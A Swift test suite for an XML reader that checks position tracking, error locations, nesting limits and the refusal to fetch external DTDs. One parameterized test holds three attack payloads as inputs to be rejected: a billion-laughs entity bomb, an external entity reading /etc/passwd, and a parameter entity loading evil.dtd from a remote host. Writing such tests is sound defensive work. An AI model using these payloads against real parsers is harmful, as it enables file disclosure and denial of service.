import Testing
@testable import SettingsKit

/// expat reads XML into elements with positions; entities are never expanded or fetched.
@Suite struct XMLReaderTests {
    static func read(_ text: String, maxDepth: Int = 256) -> Result<XMLElement, XMLProblem> {
        XMLReader.read(Array(text.utf8), maxDepth: maxDepth)
    }

    @Test func elementsAttributesAndTextCarryTheirPositions() throws {
        let text = "<?xml version=\"1.0\"?>\n<screen title=\"设置\">\n  <row 名字=\"x\"\n       key=\"k\">通用 &amp; 隐私</row>\n</screen>\n"
        let root = try Self.read(text).get()
        #expect(root.name == "screen" && root.start == Mark(line: 2, column: 1))
        #expect(root.attribute("title")?.value == "设置" && root.attribute("title")?.start == Mark(line: 2, column: 9))
        let row = try #require(root.children.first)
        #expect(row.start == Mark(line: 3, column: 3))
        #expect(row.attribute("名字")?.start == Mark(line: 3, column: 8))
        #expect(row.attribute("key")?.start == Mark(line: 4, column: 8))
        #expect(row.text == "通用 & 隐私" && row.textStart == Mark(line: 4, column: 16))
    }

    /// An XML "billion laughs" and an external entity are refused at their declaration, in bounded time.
    @Test(arguments: [
        "<!DOCTYPE d [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>\n<d>&c;</d>",
        "<!DOCTYPE d [\n<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<d>&x;</d>",
        "<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://example.com/evil.dtd\"> %p;]>\n<d/>",
    ])
    func entitiesAreNeverExpanded(_ text: String) {
        guard case .failure(let problem) = Self.read(text) else {
            Issue.record("an entity was accepted")
            return
        }
        #expect(problem.message.contains("entit") && problem.mark.line >= 1, "\(problem.message)")
    }

    @Test func anUndeclaredEntityIsALocatedError() {
        guard case .failure(let problem) = Self.read("<d>\n  <e>&x;</e>\n</d>") else { Issue.record("accepted"); return }
        #expect(problem.message == "XML: undefined entity" && problem.mark == Mark(line: 2, column: 6), "\(problem)")
    }

    @Test func malformedXMLIsLocated() {
        guard case .failure(let problem) = Self.read("<a>\n<b></a>") else { Issue.record("accepted"); return }
        #expect(problem.message == "XML: mismatched tag" && problem.mark == Mark(line: 2, column: 6), "\(problem)")
    }

    /// The external DTD a property list names is not fetched; the document reads as usual.
    @Test func anExternalDTDIsNotFetched() throws {
        let text = "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist/>"
        #expect(try Self.read(text).get().name == "plist")
    }

    @Test func nestingIsBounded() {
        let deep = String(repeating: "<a>", count: 300) + String(repeating: "</a>", count: 300)
        guard case .failure(let problem) = Self.read(deep, maxDepth: 256) else { Issue.record("accepted"); return }
        #expect(problem.isLimit && problem.message.contains("256"))
    }
}
